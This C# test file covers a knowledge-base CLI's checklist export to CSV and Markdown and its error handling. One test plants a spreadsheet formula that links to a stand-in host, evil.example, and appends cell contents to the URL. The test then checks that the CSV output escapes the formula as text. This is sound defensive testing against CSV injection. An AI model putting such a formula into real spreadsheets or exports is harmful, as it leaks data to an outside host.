using KnowledgeBase.Web.Cli;
using KnowledgeBase.Web.Tests.Support;

namespace KnowledgeBase.Web.Tests.Cli;

public class ChecklistVerbTests
{
    private static async Task<(int Exit, string Out, string Err)> RunAsync(params string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        var exit = await CommandLine.RunAsync(args, output, error);
        return (exit, output.ToString(), error.ToString());
    }

    private static async Task<TempDirectory> ImportedAsync()
    {
        var temp = new TempDirectory();
        var import = await RunAsync("import", "--data", Repository.Data, "--literature", Repository.Literature, "--data-dir", temp.Combine("kb"));
        Assert.That(import.Exit, Is.EqualTo(0), import.Err);
        return temp;
    }

    [Test]
    public async Task The_checklist_is_written_as_csv_to_standard_output()
    {
        using var temp = await ImportedAsync();
        var (exit, output, error) = await RunAsync("checklist", "--stack", "kubeflow-on-kubernetes", "--format", "csv", "--data-dir", temp.Combine("kb"));
        Assert.That((exit, error), Is.EqualTo((0, "")));
        Assert.That(output, Does.StartWith("code,title,statement,layer,priority,status,owner,note,evidence,hint\n"));
        Assert.That(output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Count(l => System.Text.RegularExpressions.Regex.IsMatch(l, "^[A-Z]{3}-\\d{2},")), Is.EqualTo(40));
    }

    [Test]
    public async Task A_note_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text()
    {
        using var temp = await ImportedAsync();
        const string formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        using (var connection = new Microsoft.Data.Sqlite.SqliteConnection(KnowledgeBase.Storage.CatalogDatabase.ConnectionString(new KnowledgeBase.Storage.DataDirectory(temp.Combine("kb")))))
        {
            connection.Open();
            using var command = connection.CreateCommand();
            command.CommandText = "UPDATE ChecklistItems SET Note = $note WHERE StackSlug = 'kubeflow-on-kubernetes' AND RequirementCode = 'CIC-01'";
            command.Parameters.AddWithValue("$note", formula);
            Assert.That(command.ExecuteNonQuery(), Is.EqualTo(1));
        }
        var (exit, output, error) = await RunAsync("checklist", "--stack", "kubeflow-on-kubernetes", "--format", "csv", "--data-dir", temp.Combine("kb"));
        Assert.That((exit, error), Is.EqualTo((0, "")));
        var line = output.Split('\n').Single(l => l.StartsWith("CIC-01,", StringComparison.Ordinal));
        Assert.That(line, Does.Contain(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","));
        Assert.That(line, Does.Not.Contain(",=").And.Not.Contain(",\"="));
    }

    [Test]
    public async Task The_checklist_is_written_as_markdown_to_a_file()
    {
        using var temp = await ImportedAsync();
        var file = temp.Combine("list.md");
        var (exit, output, _) = await RunAsync("checklist", "--stack", "mlflow-airflow-bentoml", "--format", "md", "--out", file, "--data-dir", temp.Combine("kb"));
        Assert.That(exit, Is.EqualTo(0));
        Assert.That(output, Is.Empty);
        Assert.That(File.ReadAllText(file), Does.StartWith("# Checklist: MLflow, Airflow and BentoML").And.Contain("- [x] **"));
    }

    [Test]
    public async Task An_unknown_stack_exits_1_naming_the_known_ones()
    {
        using var temp = await ImportedAsync();
        var (exit, output, error) = await RunAsync("checklist", "--stack", "nope", "--format", "csv", "--data-dir", temp.Combine("kb"));
        Assert.That(exit, Is.EqualTo(1));
        Assert.That(output, Is.Empty);
        Assert.That(error, Does.Contain("unknown stack 'nope'").And.Contain("kubeflow-on-kubernetes"));
    }

    [TestCase("checklist", "--stack", "x", "--format", "xlsx")]
    [TestCase("checklist", "--format", "csv")]
    [TestCase("checklist", "--stack", "x")]
    public async Task Bad_usage_exits_2(params string[] args)
    {
        using var temp = new TempDirectory();
        var (exit, _, error) = await RunAsync([.. args, "--data-dir", temp.Path]);
        Assert.That(exit, Is.EqualTo(2));
        Assert.That(error, Does.Contain("kb --help"));
    }
}
